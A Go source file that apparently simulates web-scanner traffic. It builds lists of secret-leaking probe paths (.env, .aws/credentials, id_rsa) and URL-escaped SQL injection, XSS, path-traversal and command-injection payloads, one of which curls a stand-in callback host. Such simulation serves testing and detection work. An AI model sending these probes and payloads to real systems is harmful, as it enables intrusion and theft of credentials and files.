package simulate

import (
	"net/url"
	"strconv"
)

// wordlistPath is the k-th path that a scanner tries: first what leaks secrets,
// then words with endings, then numbered ones. guesses leaves the former out.
func wordlistPath(k int64, guesses bool) string {
	bad := [...]string{
		"/.env", "/.git/config", "/wp-login.php", "/.aws/credentials", "/phpinfo.php", "/.git/HEAD", "/actuator/env", "/server-status", "/.svn/entries",
		"/wp-config.php.bak", "/xmlrpc.php", "/.htpasswd", "/phpmyadmin/", "/solr/admin/", "/manager/html", "/.DS_Store", "/config.json", "/backup.sql",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test.cgi", "/.env.production", "/id_rsa", "/debug/pprof/", "/swagger.json",
		"/api-docs", "/graphiql", "/console", "/jenkins/", "/owa/auth.owa", "/boaform/admin/formLogin", "/HNAP1", "/hudson/script", "/telescope/requests",
	}
	if !guesses {
		if k < int64(len(bad)) {
			return bad[k]
		}
		k -= int64(len(bad))
	}
	stems := [...]string{
		"admin", "api", "backup", "beta", "config", "data", "db", "dev", "docs", "export", "files", "internal", "logs", "old", "private", "report", "secret",
		"staging", "temp", "test", "tools", "upload", "users", "v2", "v3", "web", "archive", "billing", "cache", "dashboard", "debug", "download", "healthcheck",
		"info", "install", "invoice", "legacy", "metrics", "monitor", "partner", "portal", "reports", "root", "sandbox", "setup", "status", "support", "sync", "system",
	}
	ends := [...]string{"", "/", ".php", ".bak", ".zip", ".json", ".old", ".txt", "/login", "/index.php"}
	n := int64(len(stems) * len(ends))
	p := "/" + stems[k%n%int64(len(stems))] + ends[k%n/int64(len(stems))]
	if k >= n {
		p = "/" + strconv.FormatInt(k/n, 10) + p
	}
	return p
}

// payloadOf is the k-th payload of a class, escaped for a URL as a tool does it.
func payloadOf(class string, k int64) string {
	classes := [...]string{"sqli", "xss", "traversal", "command"}
	if class == "mixed" {
		class, k = classes[k/4%4], k/16*4+k%4
	}
	var list []string
	switch class {
	case "sqli":
		list = []string{
			"1' OR '1'='1", "1 UNION SELECT NULL,NULL,NULL--", "1; WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)", "') OR ('a'='a", "1 ORDER BY 9--",
			"-1' UNION SELECT table_name FROM information_schema.tables--", "1' AND 1=CAST((SELECT version()) AS int)--",
		}
	case "xss":
		list = []string{
			"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'",
			"<iframe src=javascript:alert(1)>", "\"onmouseover=\"alert(1)", "</title><script>alert(1)</script>",
		}
	case "traversal":
		list = []string{
			"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png",
			"file:///etc/passwd", "%252e%252e%252fetc%252fpasswd", "../WEB-INF/web.xml",
		}
	default:
		list = []string{"; id", "| cat /etc/passwd", "$(sleep 5)", "`id`", "& ping -c 3 127.0.0.1 &", "\n/bin/ls", "|| whoami", "; curl http://callback.example/x"}
	}
	p := list[k%int64(len(list))]
	if round := k / int64(len(list)); round > 0 { // the same with a number, as tools vary
		p = strconv.FormatInt(round, 10) + p
	}
	return url.QueryEscape(p)
}
